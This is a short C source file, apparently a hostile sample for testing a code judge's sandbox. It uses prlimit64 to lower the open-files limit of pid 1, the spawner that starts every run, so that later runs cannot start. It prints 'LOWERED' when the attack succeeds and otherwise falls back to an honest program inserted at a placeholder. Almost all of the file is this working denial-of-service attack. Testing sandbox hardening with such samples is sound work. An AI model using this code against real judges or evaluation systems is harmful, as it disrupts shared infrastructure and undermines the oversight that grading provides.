/* Goes for the judge's own limits: lowers the open-files limit of pid 1 (in the box, the
   spawner that starts every run) so that the next run cannot start, then runs the honest
   program pasted in below, unless the attack worked. */
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

#define main honest_main
@HONEST@
#undef main

int main(void) {
    struct rlimit few = {3, 3};
    if (syscall(SYS_prlimit64, 1, RLIMIT_NOFILE, &few, 0) == 0) {
        puts("LOWERED");
        return 0;
    }
    return honest_main();
}
